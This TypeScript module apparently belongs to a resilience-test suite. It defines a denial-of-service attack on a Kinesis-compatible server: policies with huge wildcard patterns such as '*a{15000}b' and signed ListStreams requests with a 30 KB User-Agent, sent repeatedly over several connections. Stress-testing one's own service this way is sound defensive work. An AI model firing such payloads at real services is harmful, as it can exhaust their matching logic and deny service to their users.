import { type Attack, bytesOf, signed } from "../attack.ts";
import { repeat } from "../attack-connection.ts";

const statement = { Effect: "Allow", Action: "kinesis:*", Resource: "*" };
const like = (pattern: string) => ({ ...statement, Condition: { StringLike: { "aws:UserAgent": pattern } } });
const patterns = [`*${"a".repeat(15_000)}b`, `*${"a".repeat(1_000)}b`, "*a".repeat(1_000), `*${"?a".repeat(500)}b`];
const Statement = [...patterns.map(like), statement];

export const policyPatterns: Attack = {
  name: "policies with *a{15000}b and a User-Agent of 30 KB",
  policies: [{ Version: "2012-10-17", Statement }],
  requests(target) {
    const agent = "a".repeat(30_000);
    return [bytesOf(signed(target, "ListStreams", {}, { "user-agent": agent }))];
  },
  async run(target, signal) {
    await repeat(target.port, () => this.requests?.(target) ?? [], { connectionCount: 4, signal });
    return [];
  },
};
